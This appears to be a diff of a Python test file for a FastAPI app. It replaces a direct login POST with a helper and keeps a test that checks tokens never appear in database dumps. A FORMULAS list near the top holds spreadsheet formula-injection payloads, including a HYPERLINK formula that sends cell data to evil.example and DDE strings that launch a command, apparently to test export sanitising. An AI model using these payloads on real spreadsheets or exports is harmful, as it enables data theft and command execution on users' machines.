@@ -20,7 +20,7 @@ from fastapi.testclient import TestClient
 from sqlalchemy import Engine
 from sqlalchemy.engine import make_url
 from tests.reliability.conftest import Figures
-from tests.web.conftest import PLAN_ID, auth, obligation_id
+from tests.web.conftest import PLAN_ID, auth, login, obligation_id
 
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
             "\t=1+1", "=cmd|' /C calc'!A0"]
@@ -50,7 +50,7 @@ def test_no_token_is_in_a_database_dump(applied: Engine, tokens: dict[str, str],
     # Use every token every way: API calls, portal logins, wrong guesses close to a real one.
     for token in tokens.values():
         client.get("/api/v1/me", headers=auth(token))
-        client.post("/login", data={"token": token})
+        login(client, token)
         client.get("/api/v1/me", headers=auth(token[:-3] + "abc"))
     logical, disk = dump_text(applied, tmp_path)
     secrets = {name: token.split("_", 2)[2] for name, token in tokens.items()}  # the secret part alone
